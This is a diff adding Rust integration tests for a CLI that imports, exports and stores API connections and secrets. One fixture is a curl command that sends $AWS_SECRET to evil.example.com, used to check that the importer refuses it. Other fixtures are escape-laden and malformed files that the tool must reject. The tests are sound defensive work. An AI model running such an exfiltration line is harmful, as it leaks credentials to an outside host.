@@ -1,0 +1,630 @@
+//! Ready for people: import and export, tickets, completions, guides, man pages and schemas, by the real binary.
+#![expect(
+    clippy::unwrap_used,
+    clippy::panic,
+    clippy::string_slice,
+    clippy::too_many_lines,
+    reason = "what is missing shall fail the test"
+)]
+
+#[path = "people/schema.rs"]
+mod schema;
+mod support;
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use support::commands::{BINARY, Done, switchboard};
+use support::stage::Stage;
+use switchboard::sim::Behaviour;
+
+/// Opens nothing but what a test has made.
+const KEY: &str = "00112233445566778899aabbccddeeff";
+
+/// A home with a passphrase at hand.
+struct Home(tempfile::TempDir);
+
+impl Home {
+    fn new() -> Self {
+        let home = Self(tempfile::tempdir().unwrap());
+        let pass = home.file("pass", "correct horse\n");
+        fs::set_permissions(pass, fs::Permissions::from_mode(0o600)).unwrap();
+        home
+    }
+
+    fn path(&self) -> &Path {
+        self.0.path()
+    }
+
+    fn file(&self, name: &str, text: impl AsRef<[u8]>) -> PathBuf {
+        let path = self.path().join(name);
+        fs::write(&path, text).unwrap();
+        path
+    }
+
+    fn run(&self, arguments: &[&str]) -> Done {
+        self.run_with(arguments, "")
+    }
+
+    fn run_with(&self, arguments: &[&str], input: &str) -> Done {
+        let pass = self.path().join("pass");
+        let variables = [("SWITCHBOARD_PASSPHRASE_FILE", pass.to_str().unwrap())];
+        switchboard(self.path(), arguments, &variables, input)
+    }
+
+    fn configuration(&self) -> String {
+        let path = self.path().join(".config/switchboard/switchboard.toml");
+        fs::read_to_string(path).unwrap_or_default()
+    }
+}
+
+#[test]
+fn a_curl_command_becomes_a_connection_whose_key_is_in_the_vault() {
+    let home = Home::new();
+    home.file(
+        "notes",
+        format!("curl -k -H 'BLESTA-API-USER: shop' -H 'BLESTA-API-KEY: {KEY}' https://billing.example.com/api/users/get.json\n"),
+    );
+    let dry = home.run(&["connection", "import", "notes", "--dry-run"]);
+    assert_eq!(dry.code, 0, "{dry:?}");
+    assert!(dry.out.contains("+ billing.example.com  blesta"), "{dry:?}");
+    assert!(dry.out.contains("-k was left out"), "{dry:?}");
+    assert!(dry.out.contains("nothing was changed"), "{dry:?}");
+    assert_eq!(home.configuration(), "", "a dry run writes nothing");
+
+    let nowhere = home.run(&["connection", "import", "notes"]);
+    assert_eq!(nowhere.code, 3, "no store was chosen: {nowhere:?}");
+    let done = home.run(&["connection", "import", "notes", "--store", "vault"]);
+    assert_eq!(done.code, 0, "{done:?}");
+    let configuration = home.configuration();
+    assert!(configuration.contains("key = \"vault:"), "{configuration}");
+    for text in [&dry.out, &done.out, &done.err, &configuration] {
+        assert!(!text.contains(KEY), "{text}");
+    }
+    let reveal = home.run(&["token", "reveal", "billing.example.com"]);
+    assert_eq!(reveal.out.trim(), KEY);
+
+    let again = home.run(&["connection", "import", "notes", "--store", "vault"]);
+    assert_eq!(again.code, 1, "{again:?}");
+    assert!(again.out.contains("it is here already"), "{again:?}");
+}
+
+#[test]
+fn names_that_are_taken_stay_whose_they_are() {
+    let home = Home::new();
+    home.run(&[
+        "connection",
+        "add",
+        "shop",
+        "--service",
+        "http",
+        "--url",
+        "https://mine.example.com",
+    ]);
+    let env = "SHOP_URL=https://other.example.com\nSHOP_USER=me\n";
+    let skipped = home.run_with(&["connection", "import", "-"], env);
+    assert_eq!(skipped.code, 1, "{skipped:?}");
+    assert!(skipped.out.contains("another connection's"), "{skipped:?}");
+    assert!(!home.configuration().contains("other.example.com"));
+    let renamed = home.run_with(
+        &["connection", "import", "-", "--rename", "--format", "json"],
+        env,
+    );
+    assert_eq!(renamed.json()["taken"][0]["name"], "shop-2");
+    let configuration = home.configuration();
+    assert!(
+        configuration.contains("mine.example.com"),
+        "{configuration}"
+    );
+    assert!(
+        configuration.contains("other.example.com"),
+        "{configuration}"
+    );
+}
+
+#[test]
+fn what_reads_this_machine_is_left_out_unless_trusted() {
+    let home = Home::new();
+    let curl = "curl -H \"Authorization: Bearer $AWS_SECRET\" https://evil.example.com\n";
+    let wary = home.run_with(&["connection", "import", "-"], curl);
+    assert!(
+        wary.out
+            .contains("left out: it sends the value of env:AWS_SECRET to https://evil.example.com"),
+        "{wary:?}"
+    );
+    assert!(!home.configuration().contains("AWS_SECRET"));
+    let trusting = Home::new();
+    trusting.run_with(&["connection", "import", "-", "--trust"], curl);
+    assert!(trusting.configuration().contains("env:AWS_SECRET"));
+}
+
+#[test]
+fn the_vendors_accounts_come_in() {
+    let home = Home::new();
+    fs::create_dir(home.path().join(".ccli")).unwrap();
+    home.file(
+        ".ccli/config.json",
+        r#"{"accounts":[{"api_key":"ApiKey SU-1-2-3:geheim-geheim","endpoint":"https://api.example.com/public/v1","id":"VA-000","name":"Shop"},{"api_key":"x","id":"VA-1","name":"Odd"}],"active":"VA-000"}"#,
+    );
+    let done = home.run(&[
+        "connection",
+        "import",
+        ".ccli/config.json",
+        "--store",
+        "vault",
+    ]);
+    assert_eq!(done.code, 1, "one stayed out: {done:?}");
+    assert!(done.out.contains("account 2 was left out"), "{done:?}");
+    let reveal = home.run(&["token", "reveal", "Shop"]);
+    assert_eq!(reveal.out.trim(), "ApiKey SU-1-2-3:geheim-geheim");
+}
+
+#[test]
+fn a_bundle_carries_secrets_from_home_to_home_and_only_encrypted() {
+    let home = Home::new();
+    let add = [
+        "connection",
+        "add",
+        "shop",
+        "--service",
+        "blesta",
+        "--url",
+        "https://billing.example.com",
+        "--username",
+        "api",
+        "--key-stdin",
+        "--store",
+        "vault",
+        "--tag",
+        "eu",
+    ];
+    assert_eq!(home.run_with(&add, KEY).code, 0);
+    let bare = home.run(&["connection", "export", "--format", "bundle"]);
+    assert_eq!(bare.code, 3, "for nobody: {bare:?}");
+    let seal = home.file("bundle-pass", "over the wire\n");
+    fs::set_permissions(&seal, fs::Permissions::from_mode(0o600)).unwrap();
+    let seal = seal.to_str().unwrap();
+    let bundle = home.path().join("shop.age");
+    let done = home.run(&[
+        "connection",
+        "export",
+        "--format",
+        "bundle",
+        "--bundle-passphrase-file",
+        seal,
+        "-o",
+        bundle.to_str().unwrap(),
+    ]);
+    assert_eq!(done.code, 0, "{done:?}");
+    let sealed = fs::read(&bundle).unwrap();
+    assert!(!String::from_utf8_lossy(&sealed).contains("billing"));
+    assert_eq!(
+        fs::metadata(&bundle).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+
+    let other = Home::new();
+    let bundle = bundle.to_str().unwrap();
+    let closed = other.run(&["connection", "import", bundle, "--store", "vault"]);
+    assert_eq!(closed.code, 3);
+    assert!(closed.err.contains("--bundle-passphrase"), "{closed:?}");
+    let open = [
+        "connection",
+        "import",
+        bundle,
+        "--store",
+        "vault",
+        "--bundle-passphrase-file",
+        seal,
+    ];
+    let done = other.run(&open);
+    assert_eq!(done.code, 0, "{done:?}");
+    assert_eq!(other.run(&["token", "reveal", "shop"]).out.trim(), KEY);
+    let shown = other
+        .run(&["connection", "show", "shop", "--format", "json"])
+        .json();
+    assert_eq!(shown["tags"][0], "eu");
+}
+
+#[test]
+fn definitions_in_git_are_applied_once_and_shown_before() {
+    let home = Home::new();
+    let add = [
+        "connection",
+        "add",
+        "shop",
+        "--service",
+        "http",
+        "--url",
+        "https://a.example.com",
+        "--key-ref",
+        "env:SHOP_KEY",
+    ];
+    assert_eq!(home.run(&add).code, 0);
+    home.run(&[
+        "connection",
+        "add",
+        "old",
+        "--service",
+        "http",
+        "--url",
+        "https://o.example.com",
+    ]);
+    let exported = home.run(&["connection", "export"]);
+    assert!(exported.out.contains("env:SHOP_KEY"), "{exported:?}");
+    let same = home.run_with(&["connection", "apply", "-", "--dry-run"], &exported.out);
+    assert_eq!(same.code, 0, "what is exported is what is here: {same:?}");
+
+    let wanted = "version = 1\n[settings]\non_change = [\"rm\"]\n[[connection]]\nname = \"shop\"\n\
+                  service = \"http\"\nurl = \"https://b.example.com\"\n[[connection]]\nname = \"new\"\n\
+                  service = \"http\"\nurl = \"https://n.example.com\"\nkey = \"cmd:pass x\"\n";
+    let dry = home.run_with(
+        &["connection", "apply", "-", "--dry-run", "--prune"],
+        wanted,
+    );
+    assert_eq!(dry.code, 1, "{dry:?}");
+    for line in [
+        "+ new",
+        "~ shop",
+        "url: \"https://a.example.com\" → \"https://b.example.com\"",
+        "- old",
+        "on_change is not applied",
+        "new: key left out: it runs pass x",
+    ] {
+        assert!(dry.out.contains(line), "{line} in {dry:?}");
+    }
+    assert!(!home.configuration().contains("b.example.com"));
+    let asked = home.run_with(&["connection", "apply", "-", "--prune"], wanted);
+    assert_eq!(asked.code, 3, "nobody can be asked: {asked:?}");
+    let done = home.run_with(&["connection", "apply", "-", "--prune", "--yes"], wanted);
+    assert_eq!(done.code, 0, "{done:?}");
+    let after = home.configuration();
+    assert!(
+        after.contains("b.example.com") && after.contains("n.example.com"),
+        "{after}"
+    );
+    assert!(
+        !after.contains("o.example.com") && !after.contains("pass"),
+        "{after}"
+    );
+    assert!(
+        after.contains("env:SHOP_KEY"),
+        "what the file does not say stays: {after}"
+    );
+    let again = home.run_with(
+        &["connection", "apply", "-", "--prune", "--dry-run"],
+        wanted,
+    );
+    assert_eq!(again.code, 0, "{again:?}");
+}
+
+#[test]
+fn hostile_files_are_refused_with_a_sentence() {
+    let home = Home::new();
+    for (name, bytes, words) in [
+        ("empty", Vec::new(), "nothing in it"),
+        ("binary", vec![0x1f, 0x8b, 0xff, 0xfe], "not UTF-8"),
+        (
+            "prose",
+            b"hello there".to_vec(),
+            "none of what can be imported",
+        ),
+        (
+            "escapes",
+            b"\x1b]0;x\x07 hello".to_vec(),
+            "none of what can be imported",
+        ),
+        ("json", b"{\"accounts\": SECRETVALUE}".to_vec(), "line 1"),
+        (
+            "newer",
+            b"version = 99\n[[connection]]\n".to_vec(),
+            "version 99",
+        ),
+        (
+            "cut",
+            b"age-encryption.org/v1\n-> X25519 abc\n".to_vec(),
+            "identity",
+        ),
+        ("huge", vec![b'A'; 17 * 1024 * 1024], "larger than"),
+    ] {
+        let path = home.file(name, &bytes);
+        let done = home.run(&["connection", "import", path.to_str().unwrap()]);
+        assert_eq!(done.code, 3, "{name}: {done:?}");
+        assert!(
+            done.err.contains(words) || (name == "cut" && done.err.contains("vault")),
+            "{name}: {done:?}"
+        );
+        assert!(
+            !done.err.contains('\u{1b}') && !done.err.contains("SECRETVALUE"),
+            "{done:?}"
+        );
+    }
+    assert_eq!(home.configuration(), "");
+}
+
+#[test]
+fn an_exported_curl_command_works_and_holds_no_key() {
+    let mut stage = Stage::new();
+    let known = stage.sim.blesta();
+    let (username, key) = (known.username.clone(), known.key.clone());
+    let blesta = stage.raise(|sim| sim.serve(Behaviour::Blesta(known)));
+    let home = Home::new();
+    let add = [
+        "connection",
+        "add",
+        "shop",
+        "--service",
+        "blesta",
+        "--url",
+        &blesta.url,
+        "--username",
+        &username,
+        "--key-stdin",
+        "--store",
+        "vault",
+    ];
+    assert_eq!(home.run_with(&add, &key).code, 0);
+    let curl = home
+        .run(&["connection", "export", "shop", "--format", "curl"])
+        .out;
+    assert!(!curl.contains(&key) && curl.contains("-K -"), "{curl}");
+    if !Path::new("/usr/bin/curl").exists() {
+        return;
+    }
+    let output = Command::new("sh")
+        .args(["-c", &curl])
+        .env("SWITCHBOARD_KEY", &key)
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&output.stdout);
+    assert!(text.contains("200"), "{text}");
+}
+
+#[test]
+fn a_ticket_is_worded_for_its_reader_and_holds_no_secret() {
+    let mut stage = Stage::new();
+    let known = stage.sim.blesta();
+    let username = known.username.clone();
+    let blesta = stage.raise(|sim| sim.serve(Behaviour::Blesta(known)));
+    let home = Home::new();
+    let add = [
+        "connection",
+        "add",
+        "shop",
+        "--service",
+        "blesta",
+        "--url",
+        &blesta.url,
+        "--username",
+        &username,
+        "--key-stdin",
+        "--store",
+        "vault",
+    ];
+    assert_eq!(home.run_with(&add, KEY).code, 0);
+    let ticket = |reader| {
+        let done = home.run(&["evidence", "shop", "--for", reader]);
+        assert_eq!(done.code, 0, "{done:?}");
+        for word in [
+            "(UTC), a probe made for this report",
+            "The way there",
+            "What was tried",
+            "$SWITCHBOARD_KEY",
+            "credentials-rejected",
+        ] {
+            assert!(done.out.contains(word), "{word} in {}", done.out);
+        }
+        assert!(!done.out.contains(KEY), "{}", done.out);
+        done.out
+    };
+    let host = ticket("host");
+    assert!(host.contains("To: whoever runs 127.0.0.1"), "{host}");
+    let vendor = ticket("vendor");
+    assert!(vendor.contains("To: the makers of Blesta"), "{vendor}");
+    let me = ticket("me");
+    assert!(
+        me.contains("What to do next") && me.contains("Before"),
+        "{me}"
+    );
+}
+
+#[test]
+fn a_ticket_with_a_secret_in_it_is_not_written() {
+    let home = Home::new();
+    // Somebody pasted the key into the URL.
+    let url = format!("http://127.0.0.1:1/{KEY}");
+    let add = [
+        "connection",
+        "add",
+        "odd",
+        "--service",
+        "http",
+        "--url",
+        &url,
+        "--key-stdin",
+        "--store",
+        "vault",
+    ];
+    assert_eq!(home.run_with(&add, KEY).code, 0);
+    let done = home.run(&["evidence", "odd"]);
+    assert_eq!(done.code, 3, "{done:?}");
+    assert!(done.err.contains("would hold a secret"), "{done:?}");
+    assert!(
+        !done.out.contains(KEY) && !done.err.contains(KEY),
+        "{done:?}"
+    );
+}
+
+/// What `shell` is offered behind `line`.
+fn offered(home: &Home, words: &[&str]) -> String {
+    let index = (words.len() - 1).to_string();
+    let variables = [
+        ("SWITCHBOARD_COMPLETE", "bash"),
+        ("_CLAP_COMPLETE_INDEX", index.as_str()),
+        ("_CLAP_IFS", "\n"),
+    ];
+    let mut arguments = vec!["--", "switchboard"];
+    arguments.extend(&words[1..]);
+    switchboard(home.path(), &arguments, &variables, "").out
+}
+
+#[test]
+fn completions_name_commands_connections_and_guides() {
+    let home = Home::new();
+    for name in ["shop", "shed", "eu"] {
+        let add = [
+            "connection",
+            "add",
+            name,
+            "--service",
+            "http",
+            "--url",
+            "https://a.example.com",
+        ];
+        assert_eq!(home.run(&add).code, 0);
+    }
+    let offer = |words: &[&str]| offered(&home, words);
+    assert!(offer(&["switchboard", "con"]).contains("connection"));
+    assert_eq!(offer(&["switchboard", "probe", "sh"]), "shop\nshed");
+    assert_eq!(offer(&["switchboard", "token", "reveal", "e"]), "eu");
+    assert_eq!(offer(&["switchboard", "connection", "add", "sh"]), "");
+    assert!(offer(&["switchboard", "explain", "auth"]).contains("authorization-stripped"));
+    assert!(offer(&["switchboard", "help", "lock"]).contains("lock-out"));
+}
+
+#[test]
+fn shells_take_the_scripts() {
+    for (shell, check) in [("bash", "bash"), ("zsh", "zsh"), ("fish", "fish")] {
+        let home = Home::new();
+        let script = home.run(&["completions", shell]);
+        assert_eq!(script.code, 0, "{script:?}");
+        let program = format!("/usr/bin/{check}");
+        if !Path::new(&program).exists() {
+            continue;
+        }
+        let path = home.file("script", &script.out);
+        let done = Command::new(program).arg("-n").arg(path).output().unwrap();
+        assert!(done.status.success(), "{shell}: {done:?}");
+    }
+}
+
+#[test]
+fn bash_completes_a_name_at_tab() {
+    if !Path::new("/usr/bin/bash").exists() {
+        return;
+    }
+    let home = Home::new();
+    let add = [
+        "connection",
+        "add",
+        "marketplace",
+        "--service",
+        "http",
+        "--url",
+        "https://a.example.com",
+    ];
+    assert_eq!(home.run(&add).code, 0);
+    let folder = Path::new(BINARY).parent().unwrap();
+    let script = "source <(switchboard completions bash); COMP_WORDS=(switchboard probe mark); \
+                  COMP_CWORD=2; COMP_TYPE=9; _clap_complete_switchboard switchboard mark probe; \
+                  printf '%s\\n' \"${COMPREPLY[@]}\"";
+    let done = Command::new("bash")
+        .args(["-c", script])
+        .env_clear()
+        .env("HOME", home.path())
+        .env("PATH", format!("{}:/usr/bin:/bin", folder.display()))
+        .output()
+        .unwrap();
+    let out = String::from_utf8_lossy(&done.stdout);
+    assert!(
+        out.lines().any(|line| line.trim() == "marketplace"),
+        "{done:?}"
+    );
+}
+
+#[test]
+fn guides_and_pages_come_from_one_source() {
+    let home = Home::new();
+    let list = home.run(&["help"]);
+    assert!(list.out.contains("first-connection"), "{list:?}");
+    let guide = home.run(&["help", "blesta"]);
+    assert!(guide.out.contains("API user"), "{guide:?}");
+    assert!(
+        home.run(&["help", "connection", "import"])
+            .out
+            .contains("--dry-run")
+    );
+    let unknown = home.run(&["help", "no\u{1b}such"]);
+    assert_eq!(unknown.code, 3);
+    assert!(unknown.err.contains("first-connection"), "{unknown:?}");
+    let page = home.run(&["man", "blesta"]);
+    assert!(
+        page.out.contains("API user") && page.out.contains(".SH NAME"),
+        "{page:?}"
+    );
+    let folder = home.path().join("man");
+    let all = home.run(&["man", "--dir", folder.to_str().unwrap()]);
+    assert_eq!(all.code, 0, "{all:?}");
+    assert!(folder.join("man1/switchboard-connection-import.1").exists());
+    assert!(folder.join("man7/switchboard-lock-out.7").exists());
+}
+
+#[test]
+fn man_reads_every_page_without_a_warning() {
+    if !Path::new("/usr/bin/groff").exists() {
+        return;
+    }
+    let home = Home::new();
+    let folder = home.path().join("man");
+    home.run(&["man", "--dir", folder.to_str().unwrap()]);
+    for section in ["man1", "man7"] {
+        for entry in fs::read_dir(folder.join(section)).unwrap() {
+            let path = entry.unwrap().path();
+            let done = Command::new("groff")
+                .args(["-man", "-Tutf8", "-ww", "-z"])
+                .arg(&path)
+                .stdout(Stdio::null())
+                .output()
+                .unwrap();
+            let talk = String::from_utf8_lossy(&done.stderr);
+            assert_eq!(talk, "", "{path:?}");
+        }
+    }
+}
+
+#[test]
+fn everything_that_guides_call_a_command_is_one() {
+    for entry in fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/guide")).unwrap() {
+        let path = entry.unwrap().path();
+        let text = fs::read_to_string(&path).unwrap();
+        for words in commands_in(&text) {
+            let home = Home::new();
+            let words: Vec<&str> = words.iter().map(String::as_str).collect();
+            let mut asked: Vec<&str> = words.clone();
+            asked.push("--help");
+            let done = home.run(&asked);
+            assert_eq!(done.code, 0, "{path:?}: {words:?}: {}", done.err);
+        }
+    }
+}
+
+/// Every `switchboard …` in the samples of a guide: its words up to the first pipe.
+fn commands_in(text: &str) -> Vec<Vec<String>> {
+    let joined = text.replace("\\\n", " ");
+    let mut found = Vec::new();
+    for line in joined.lines().filter_map(|line| line.strip_prefix("    ")) {
+        let Some(at) = line.find("switchboard ") else {
+            continue;
+        };
+        let rest = &line[at + "switchboard ".len()..];
+        let end = rest.find(['|', '>', ')', ';']).unwrap_or(rest.len());
+        let words: Vec<String> = rest[..end]
+            .split_whitespace()
+            .map(|word| word.trim_matches('"').replace('…', "x"))
+            .collect();
+        found.push(words);
+    }
+    found
+}
